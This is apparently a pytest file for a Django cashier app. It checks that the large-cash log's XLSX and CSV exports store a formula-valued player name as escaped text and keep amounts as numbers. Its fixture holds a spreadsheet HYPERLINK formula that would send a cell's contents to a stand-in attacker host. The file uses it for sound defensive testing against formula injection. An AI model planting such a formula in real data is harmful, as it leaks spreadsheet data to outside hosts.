"""The large-cash log in XLSX and CSV: a player named as a formula is text, the amounts are numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cashier.services.sales import chip_sale_create
from tests.cashier.conftest import by_value
from tests.factories import home_room_set

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&D2,"Details")'


@pytest.fixture
def large_cash(shift, cashier, player):
    home_room_set(large_cash_threshold=20_000)
    player.first_name = LINK
    player.save(update_fields=["first_name"])
    chip_sale_create(actor=cashier, amount=25_000, method="cash", chips=by_value({5_000: 5}), player_id=player.pk)
    return player


def test_the_xlsx_keeps_a_formula_name_as_text_and_amounts_as_numbers(large_cash, accountant, client_for) -> None:
    response = client_for(accountant).get(reverse("cashier:large_cash"), {"format": "xlsx"})
    [_header, row] = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())
    player, cash_in = row[1], row[3]
    assert player.value == f"'{LINK} Petrosyan" and player.data_type == "s"
    assert cash_in.value == 25_000 and cash_in.data_type == "n"


def test_the_csv_keeps_a_formula_name_as_text(large_cash, accountant, client_for) -> None:
    response = client_for(accountant).get(reverse("cashier:large_cash"), {"format": "csv"})
    [_header, row] = list(csv.reader(io.StringIO(response.content.decode())))
    assert row[1] == f"'{LINK} Petrosyan" and row[3] == "25000"
